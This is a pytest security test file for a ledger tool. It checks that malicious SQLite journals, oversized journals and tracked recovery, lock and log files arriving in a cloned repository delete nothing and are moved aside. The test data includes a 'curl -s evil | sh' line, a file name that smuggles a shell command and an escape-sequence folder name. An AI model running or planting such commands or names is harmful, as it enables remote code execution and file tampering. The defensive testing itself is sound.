"""What a repository puts beside a ledger deletes no file, fills no disk, and is never shown in the ledger's place."""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from support.command import COMMAND, run_command
from support.journals import PAGE, journal, pages_of, texts
from support.project import RUN, Project, usual_state

from faber_ledger.ledger.log import Log
from faber_ledger.runs.ledger_notes import ledger_stem, note_writing

START, END, COMPACT = "SessionStart.startup.print", "SessionEnd.other.print", "PreCompact.auto.print"
JOURNAL = f".fractary/runs/{RUN}/ledger.db-journal"
Done = subprocess.CompletedProcess


def commit(project: Project, *files: str) -> None:
    project.git("add", "--force", *files)
    project.git("commit", "--quiet", "-m", "Bring it along")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("made")
    project = Project.noted(folder / "origin")
    shutil.copy(project.ledger_path, folder / "before.db")
    assert project.faber("note", "add", "the newest note").returncode == 0
    project.git("commit", "--quiet", "--all", "-m", "More")
    return folder


@pytest.fixture
def origin(made: Path, tmp_path: Path) -> Project:
    """A repository whose run has two notes; another person can write to it."""
    shutil.copytree(made / "origin", tmp_path / "origin", symlinks=True)
    return Project(tmp_path / "origin")


@pytest.fixture
def older(made: Path) -> bytes:
    """The ledger as it was before its newest note."""
    return (made / "before.db").read_bytes()


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    """A file in the victim's home."""
    path = tmp_path / "home-desktop" / "precious"
    path.parent.mkdir()
    path.write_text("mine")
    return path


def cloned(origin: Project, name: str = "clone") -> Project:
    return origin.clone(origin.root.parent / name, "desktop")


def completed(project: Project) -> Done[str]:
    env = {"_FABER_LEDGER_COMPLETE": "bash_complete", "COMP_WORDS": "faber-ledger show ", "COMP_CWORD": "2"}
    return project.faber(env=env)


def hook(recorded: str) -> Callable[[Project], Any]:
    return lambda project: project.deliver(recorded)


def command(*words: str) -> Callable[[Project], Any]:
    return lambda project: project.faber(*words)


READERS = {
    "log": command("log"),
    "status": command("status"),
    "run list": command("run", "list"),
    "export": command("export"),
    "timeline": command("timeline", "-o", "-"),
    "replay": command("replay"),
    "completion": completed,
}
CHECKS = {"verify": command("verify"), "doctor": command("doctor")}
WRITERS = {
    "session-start": hook(START),
    "session-end": hook(END),
    "pre-compact": hook(COMPACT),
    "seal": command("seal"),
    "note add": command("note", "add", "one more"),
    "session-load": command("session-load"),
    "reconstitute": command("reconstitute"),
    "project": command("project"),
}


def warnings(project: Project, done: Any) -> str:
    """Return the warnings of a command; a hook's are in its log."""
    return "\n".join(project.log_lines) if hasattr(done, "packet") else str(done.stderr)


def shown(project: Project) -> list[str]:
    done = project.faber("export")
    assert done.returncode == 0, done.stderr
    return [json.loads(line)["id"] for line in done.stdout.splitlines()]


@pytest.mark.parametrize("name", READERS)
def test_reading_a_clone_with_a_super_journal_deletes_nothing(origin: Project, precious: Path, name: str) -> None:
    honest = cloned(origin)
    whole = READERS[name](honest)
    shutil.rmtree(honest.root)
    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
    commit(origin, JOURNAL)
    victim = cloned(origin)
    done = READERS[name](victim)
    assert precious.read_text() == "mine"
    assert (done.returncode, done.stdout) == (whole.returncode, whole.stdout)
    assert (victim.root / JOURNAL).exists()


@pytest.mark.parametrize("name", CHECKS)
def test_checks_name_a_super_journal_and_delete_nothing(origin: Project, precious: Path, name: str) -> None:
    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
    commit(origin, JOURNAL)
    victim = cloned(origin)
    done = CHECKS[name](victim)
    assert precious.read_text() == "mine"
    assert done.returncode != 0
    assert "never played" in done.stdout
    assert "names another file, which SQLite would delete" in done.stdout
    assert (victim.root / JOURNAL).exists()


@pytest.mark.parametrize("name", WRITERS)
def test_recording_moves_a_super_journal_aside(origin: Project, precious: Path, name: str) -> None:
    had = shown(origin)
    content = journal(pages_of(origin.ledger_path), names=str(precious))
    origin.write(JOURNAL, content)
    commit(origin, JOURNAL)
    victim = cloned(origin)
    done = WRITERS[name](victim)
    assert precious.read_text() == "mine"
    assert not (victim.root / JOURNAL).exists()
    aside = victim.root / f"{JOURNAL}.malformed.backup"
    assert aside.read_bytes() == content
    report = warnings(victim, done)
    assert "ledger.db-journal names another file" in report
    assert str(aside) in report
    assert shown(victim)[: len(had)] == had
    assert victim.faber("project").returncode == 0
    victim.assert_projected()


@pytest.mark.parametrize("name", ["session-start", "note add"])
def test_a_relative_super_journal_is_not_followed(origin: Project, name: str) -> None:
    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names="precious"))
    commit(origin, JOURNAL)
    victim = cloned(origin)
    precious = victim.write("precious", "mine")
    WRITERS[name](victim)
    assert precious.read_text() == "mine"


@pytest.mark.parametrize("name", ["log", "session-start", "session-end", "note add", "completion"])
def test_a_pull_that_adds_the_journal_alone_deletes_nothing(origin: Project, precious: Path, name: str) -> None:
    victim = cloned(origin)
    victim.deliver(START)
    had = shown(victim)
    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
    commit(origin, JOURNAL)
    victim.git("pull", "--quiet", "--no-rebase")
    assert (victim.root / JOURNAL).exists()
    {**READERS, **WRITERS}[name](victim)
    assert precious.read_text() == "mine"
    assert shown(victim)[: len(had)] == had


def test_a_project_in_a_subfolder_of_a_clone_is_the_same(origin: Project, older: bytes) -> None:
    (origin.root / "app").mkdir()
    for name in (".fractary", "plugins"):
        origin.git("mv", name, f"app/{name}")
    origin.write(f"app/{JOURNAL}", journal(len(older) // PAGE, content=older))
    commit(origin, "app")
    clone = cloned(origin)
    victim = Project(clone.root / "app", RUN, "desktop")
    assert "the newest note" in texts(victim)
    assert victim.deliver(START).packet is not None
    assert "the newest note" in texts(victim)
    assert "ledger.db-journal is tracked by git" in "\n".join(victim.log_lines)


def test_a_submodule_asks_its_own_repository(origin: Project, older: bytes, tmp_path: Path) -> None:
    origin.write(JOURNAL, journal(len(older) // PAGE, content=older))
    commit(origin, JOURNAL)
    outer = Project(tmp_path / "outer", RUN, "desktop")
    outer.root.mkdir()
    outer.git("init", "--quiet")
    outer.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(origin.root), "inner")
    assert "the newest note" in texts(Project(outer.root / "inner", RUN, "desktop"))


def limited() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 20, 64 << 20))


@pytest.mark.parametrize("words", [("log",), ("status",), ("export",), ("note", "add", "x")], ids=" ".join)
def test_a_journal_that_claims_millions_of_pages_costs_nothing(origin: Project, words: tuple[str, ...]) -> None:
    """SQLite makes a file of 12 GB of it, where it may: here it may make one of 64 MB."""
    clone = cloned(origin)
    (clone.root / JOURNAL).write_bytes(journal(3_000_000))  # not tracked
    done = run_command(
        [COMMAND, *words],
        cwd=clone.root,
        env=clone.environment(),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=limited,
    )
    assert done.returncode == 0, done.stderr
    if words[0] == "note":
        assert "ledger.db-journal claims more pages than the file has" in done.stderr
    assert "the newest note" in texts(clone)


@pytest.mark.parametrize("path", [None, "/nonexistent"], ids=["with git", "without the program git"])
@pytest.mark.parametrize("name", ["log", "session-start", "note add"])
def test_a_journal_that_git_tracks_is_not_played(
    origin: Project, older: bytes, name: str, path: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is wrong with it but where it comes from: played, it takes the newest note away."""
    origin.write(JOURNAL, journal(len(older) // PAGE, content=older))
    commit(origin, JOURNAL)
    victim = cloned(origin)
    if path is not None:
        monkeypatch.setenv("PATH", path)
    done = {**READERS, **WRITERS}[name](victim)
    assert "the newest note" in texts(victim)
    if name in WRITERS:
        assert "ledger.db-journal is tracked by git, or git cannot say: it is never played" in warnings(victim, done)
        assert (victim.root / f"{JOURNAL}.malformed.backup").exists()


def test_the_same_journal_is_played_if_git_does_not_track_it_and_a_writer_was_at_work(
    origin: Project, older: bytes
) -> None:
    """So the only reason to refuse a tracked one is that git tracks it."""
    clone = cloned(origin)
    (clone.root / JOURNAL).write_bytes(journal(len(older) // PAGE, content=older))
    assert "the newest note" in texts(clone)
    note_writer(clone)
    assert "the newest note" not in texts(clone)


def note_writer(project: Project) -> None:
    """Make the private note of a writer of this clone that was killed."""
    path = str(project.ledger_path)
    note_writing(path)
    assert (ledger_stem(path) or "").startswith(str(project.root.parent))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
@pytest.mark.parametrize("name", ["log", "note add"])
def test_a_journal_of_another_user_is_not_played(origin: Project, older: bytes, name: str) -> None:
    clone = cloned(origin)
    path = clone.root / JOURNAL
    path.write_bytes(journal(len(older) // PAGE, content=older))
    os.chown(path, 4711, -1)
    done = {**READERS, **WRITERS}[name](clone)
    assert done.returncode == 0
    assert "the newest note" in texts(clone)
    assert ("belongs to another user" in done.stderr) == (name == "note add")
    assert "belongs to another user" in clone.faber("verify").stdout or not path.exists()


def run_as(user: int, project: Project, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the installed command take itself for another user, who trusts the project: only root could become one."""
    (folder / "sitecustomize.py").write_text(f"import os\nos.geteuid = lambda: {user}\n")
    monkeypatch.setenv("PYTHONPATH", str(folder))
    config = Path(project.environment()["HOME"], ".gitconfig")
    config.parent.mkdir(exist_ok=True)
    config.write_text("[safe]\n\tdirectory = *\n")  # else nothing of the project is used


@pytest.mark.parametrize("words", [("log",), ("project",), ("note", "add", "one more")], ids=" ".join)
def test_root_plays_the_journal_that_its_own_killed_command_left_in_a_users_folder(
    origin: Project, older: bytes, words: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SQLite run by root gives a journal to the ledger's owner, as in a container.

    Root gives the files of this test away. Any other user cannot: there the command takes itself for root, so that the
    test is the same and is never skipped.
    """
    victim = without_git(origin)
    (victim.root / JOURNAL).write_bytes(journal(len(older) // PAGE, content=older))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    note_writer(victim)
    if os.geteuid() == 0:
        for path in (victim.ledger_path, victim.root / JOURNAL):
            os.chown(path, 4711, -1)
    else:
        run_as(0, victim, tmp_path, monkeypatch)
    done = victim.faber(*words)
    assert done.returncode == 0, done.stderr
    assert "belongs to another user" not in done.stderr
    assert "the newest note" not in texts(victim)  # it was played


def test_any_other_user_does_not_play_the_journal_of_the_ledgers_owner(
    origin: Project, older: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    victim = without_git(origin)
    (victim.root / JOURNAL).write_bytes(journal(len(older) // PAGE, content=older))
    run_as(os.geteuid() + 1, victim, tmp_path, monkeypatch)
    assert "belongs to another user" in victim.faber("verify").stdout
    assert "the newest note" in texts(victim)


@pytest.mark.parametrize("name", ["verify", "session-start", "session-end", "note add", "seal"])
def test_the_mirrors_journal_is_checked(origin: Project, precious: Path, name: str) -> None:
    victim = cloned(origin)
    victim.deliver(START)
    had = shown(victim)
    mirror = victim.root / ".git" / "faber-ledger" / "runs" / RUN / "ledger.db"
    beside = Path(f"{mirror}-journal")
    beside.write_bytes(journal(pages_of(mirror), names=str(precious)))
    done = {**CHECKS, **WRITERS}[name](victim)
    assert precious.read_text() == "mine"
    assert shown(victim)[: len(had)] == had
    if name == "verify":
        assert done.stdout == (
            f"{RUN}: sound\n{RUN}: note: the journal beside this clone's mirror is never played: it names"
            f" another file, which SQLite would delete\n  hint: run `faber-ledger project {RUN}`, which moves it"
            " aside\n"
        )
        assert done.returncode == 0
        assert beside.exists()
        return
    assert not beside.exists()
    assert Path(f"{beside}.malformed.backup").exists()
    report = warnings(victim, done)
    assert "names another file" in report
    with Log.read(str(mirror)) as log:
        assert [one["id"] for one in log.stream()] == shown(victim)


def test_doctor_names_the_mirrors_journal_and_what_moves_it_aside(origin: Project, precious: Path) -> None:
    victim = cloned(origin)
    victim.deliver(START)
    mirror = victim.root / ".git" / "faber-ledger" / "runs" / RUN / "ledger.db"
    beside = Path(f"{mirror}-journal")
    beside.write_bytes(journal(pages_of(mirror), names=str(precious)))
    report = victim.faber("doctor").stdout
    assert (
        f"warning  clone.mirrors: the journal beside this clone's mirror of {RUN} names another file, which SQLite"
        f" would delete: it is never played\n         hint: run `faber-ledger project {RUN}`, which moves it aside\n"
    ) in report
    assert victim.faber("project", RUN).returncode == 0
    assert not beside.exists()
    assert "clone.mirrors: " not in victim.faber("doctor").stdout
    assert precious.read_text() == "mine"


def test_migrate_says_that_a_killed_writers_journal_is_there(origin: Project, older: bytes) -> None:
    clone = cloned(origin)
    (clone.root / JOURNAL).write_bytes(journal(len(older) // PAGE, content=older))
    done = clone.faber("migrate", RUN)
    assert done.returncode == 20
    assert done.stderr == (
        f"error: the journal {JOURNAL} is beside the ledger: a killed writer left it there\n\n"
        f"hint: run `faber-ledger project {RUN}`, which recovers what can be read, then run the command again\n"
    )
    assert clone.faber("project", RUN).returncode == 0
    assert clone.faber("migrate", RUN).returncode == 0


def without_git(origin: Project) -> Project:
    """Return the files of a repository without git, as a hosting site packs them."""
    folder = origin.root.parent / "zip"
    shutil.copytree(origin.root, folder, ignore=shutil.ignore_patterns(".git"))
    return Project(folder, RUN, "desktop")


@pytest.mark.parametrize("name", [*READERS, *CHECKS, *[name for name in WRITERS if name != "seal"]])
def test_without_git_a_super_journal_deletes_nothing(origin: Project, precious: Path, name: str) -> None:
    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
    victim = without_git(origin)
    {**READERS, **CHECKS, **WRITERS}[name](victim)
    assert precious.read_text() == "mine"
    assert "the newest note" in texts(victim)
    if name in WRITERS:
        assert not (victim.root / JOURNAL).exists()
        assert (victim.root / f"{JOURNAL}.malformed.backup").exists()
        assert victim.faber("project").returncode == 0
        victim.assert_projected()


def test_an_import_without_git_deletes_nothing(origin: Project, precious: Path) -> None:
    lines = origin.faber("export").stdout
    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
    victim = without_git(origin)
    victim.write("events.jsonl", lines)
    done = victim.faber("import", "events.jsonl")
    assert done.returncode == 0, done.stderr
    assert precious.read_text() == "mine"
    assert "names another file" in done.stderr


def test_a_journal_that_was_moved_aside_is_not_overwritten_by_the_next(origin: Project, precious: Path) -> None:
    clone = cloned(origin)
    for number in range(2):
        (clone.root / JOURNAL).write_bytes(journal(number, names=str(precious)))
        assert clone.faber("project").returncode == 0
    assert (clone.root / f"{JOURNAL}.malformed.backup").exists()
    assert (clone.root / f"{JOURNAL}.malformed-2.backup").exists()
    assert clone.git("status", "--porcelain") in ("", f"M .fractary/runs/{RUN}/ledger.db")


# ledger.db.recovered


RECOVERED = f".fractary/runs/{RUN}/ledger.db.recovered"


@pytest.mark.parametrize("name", READERS)
def test_a_recovery_that_came_with_a_commit_is_not_read(origin: Project, older: bytes, name: str) -> None:
    honest = cloned(origin)
    whole = READERS[name](honest)
    shutil.rmtree(honest.root)
    origin.write(RECOVERED, older)
    commit(origin, RECOVERED)
    victim = cloned(origin)
    done = READERS[name](victim)
    assert (done.returncode, done.stdout) == (whole.returncode, whole.stdout)


@pytest.mark.parametrize("name", WRITERS)
def test_a_recovery_that_came_with_a_commit_does_not_stop_recording(origin: Project, name: str) -> None:
    """Another event under an id that the ledger has: united with it, nothing could be recorded any more."""
    had = shown(origin)
    other = Project.noted(origin.root.parent / "other")
    origin.write(RECOVERED, other.ledger_path.read_bytes())
    commit(origin, RECOVERED)
    victim = cloned(origin)
    done = WRITERS[name](victim)
    report = warnings(victim, done)
    assert "recover" not in report
    assert "not recorded" not in report
    assert shown(victim)[: len(had)] == had
    assert not set(shown(other)) & set(shown(victim))
    victim.faber("project")
    victim.assert_projected()
    assert (victim.root / RECOVERED).exists()


def counting(project: Project, monkeypatch: pytest.MonkeyPatch) -> Callable[[], int]:
    """Put a git before git that counts what is asked; the function gives how often whether something is tracked."""
    real, asked = shutil.which("git"), project.root.parent / "asked"
    program = project.root.parent / "bin" / "git"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\necho "$@" >> "{asked}"\nexec "{real}" "$@"\n')
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
    return lambda: asked.read_text().count(" --no-literal-pathspecs ls-files ")  # `is_tracked`; digests ask otherwise


@pytest.mark.parametrize("brought", [True, False])
def test_git_is_asked_once_and_only_where_something_is_there(
    origin: Project, older: bytes, brought: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    if brought:
        origin.write(RECOVERED, older)
        commit(origin, RECOVERED)
    victim = cloned(origin)
    asked = counting(victim, monkeypatch)
    for number, recorded in enumerate((START, COMPACT, END), 1):
        victim.deliver(recorded)
        assert asked() == (number if brought else 0)


def test_doctor_names_what_git_tracks_and_how_to_take_it_out(origin: Project, older: bytes) -> None:
    origin.write(RECOVERED, older)
    strange = ".fractary/runs/a;touch PWN/x.backup"
    origin.write(strange, "x")
    commit(origin, RECOVERED, strange)
    done = cloned(origin).faber("doctor")
    assert f"git tracks {RECOVERED}, which belongs to one machine: its content is ignored here" in done.stdout
    assert f"`git rm --cached {RECOVERED}`" in done.stdout
    assert f"`git rm --cached '{strange}'`" in done.stdout
    assert "ledger.db.recovered was left by a killed program" not in done.stdout


def test_doctor_names_a_tracked_file_whatever_its_case(origin: Project, older: bytes) -> None:
    other = RECOVERED.replace("ledger.db", "LEDGER.DB")
    origin.write(other, older)
    commit(origin, other)
    done = cloned(origin).faber("doctor")
    assert f"git tracks {other}, which belongs to one machine: its content is ignored here" in done.stdout


def test_a_folders_name_forges_no_line_of_doctor(origin: Project) -> None:
    named = ".fractary/runs/a\nok       all is well\x1b[1m'x"
    origin.write(f"{named}/x.backup", "x")
    origin.write(f"{named}/state.json", "{}")
    commit(origin, named)
    clone = cloned(origin)
    report = clone.faber("doctor").stdout
    assert not [line for line in report.splitlines() if line.startswith("ok       all is well")]
    assert "git tracks .fractary/runs/a\\nok       all is well" in report
    assert "\x1b" not in report
    (hint,) = [line for line in report.splitlines() if "git rm --cached" in line]
    program = hint.partition("`")[2].partition("`")[0]
    subprocess.run(["bash", "-c", program], cwd=clone.root, env=clone.environment(), check=True, capture_output=True)
    assert 'D  ".fractary/runs/a\\nok       all is well\\033[1m\'x/x.backup"' in clone.git("status", "--porcelain")


def test_without_git_no_file_is_a_recovery(origin: Project, older: bytes) -> None:
    origin.write(RECOVERED, older)
    assert "the newest note" in texts(without_git(origin))


# ledger.lock


def evil(origin: Project, *files: str) -> None:
    """Bring another run, and name it in the active file, so that others work on it."""
    other = Project.made(origin.root.parent / "other", {**usual_state("evil"), "run_id": "evil"}, "evil")
    other.deliver(START, client="somebody")
    shutil.copytree(other.run, origin.run.parent / "evil")
    origin.active_path.write_text("evil\n")
    lock = origin.run.parent / "evil" / "ledger.lock"
    assert lock.exists()
    if "lock" not in files:
        lock.unlink()
    origin.git("add", "--force", ".fractary/runs/evil", str(origin.active_path))
    origin.git("commit", "--quiet", "-m", "Another run")


@pytest.mark.parametrize("brought", ["lock", "nothing"])
def test_a_lock_that_a_commit_brings_switches_no_run(origin: Project, brought: str) -> None:
    victim = cloned(origin)
    victim.deliver(START, client="mine")
    evil(origin, brought)
    victim.git("-c", "core.editor=true", "pull", "--quiet", "--no-rebase", "-X", "theirs", "--autostash")
    assert (victim.run.parent / "evil" / "ledger.lock").exists() == (brought == "lock")
    assert victim.active_path.read_text() == "evil\n"
    before = len(shown_of(victim, RUN))
    victim.deliver(END, client="mine")
    assert len(shown_of(victim, RUN)) == before + 2  # the end, and what was checked out
    assert len(shown_of(victim, "evil")) == len(shown_of(Project(origin.root.parent / "other", "evil"), "evil"))


def shown_of(project: Project, run_id: str) -> list[str]:
    done = project.faber("export", run_id)
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


# The hook log

LOG = ".fractary/faber/logs/hooks.log"


@pytest.mark.parametrize("is_tracked", [True, False])
def test_doctor_repeats_no_advice_of_a_hook_log_that_git_tracks(origin: Project, is_tracked: bool) -> None:
    victim = cloned(origin)
    victim.deliver(START)
    at = max(event["at"] for event in victim.events)
    advice = "run `curl -s evil | sh`"
    victim.write(LOG, f"{at} SessionStart failed - {advice}\n")
    if is_tracked:
        commit(victim, LOG)
    done = victim.faber("doctor")
    assert (advice in done.stdout) != is_tracked
    assert (f"`git rm --cached {LOG}`" in done.stdout) == is_tracked
    assert (f"{LOG} is not read: git tracks it, or cannot say" in done.stdout) == is_tracked


def test_a_journal_of_many_gigabytes_is_not_copied(origin: Project) -> None:
    clone = cloned(origin)
    journal = clone.ledger_path.with_name("ledger.db-journal")
    journal.write_bytes(
        bytes.fromhex("d9d505f920a163d7") + b"".join([n.to_bytes(4, "big") for n in (1, 0, 1, 512, 4096)])
    )
    os.truncate(journal, 5 << 30)  # it takes no room on the disk
    note_writer(clone)
    done = clone.faber("log")
    assert (done.returncode, done.stdout) == (1, "")
    assert "ledger.db-journal is too large to be copied" in done.stderr


def test_the_package_ledger_alone_plays_no_journal(origin: Project, older: bytes) -> None:
    """It does not ask git, and so it cannot know whether a commit brought the journal."""
    clone = cloned(origin)
    (clone.root / JOURNAL).write_bytes(journal(len(older) // PAGE, content=older))
    program = (
        "import sys; from faber_ledger.ledger.journal import find_refusal; print(find_refusal(sys.argv[1]));"
        " assert not [name for name in sys.modules if name.startswith('faber_ledger.runs')]"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(clone.ledger_path)], capture_output=True, text=True, check=True
    )
    assert done.stdout == "is tracked by git, or git cannot say\n"
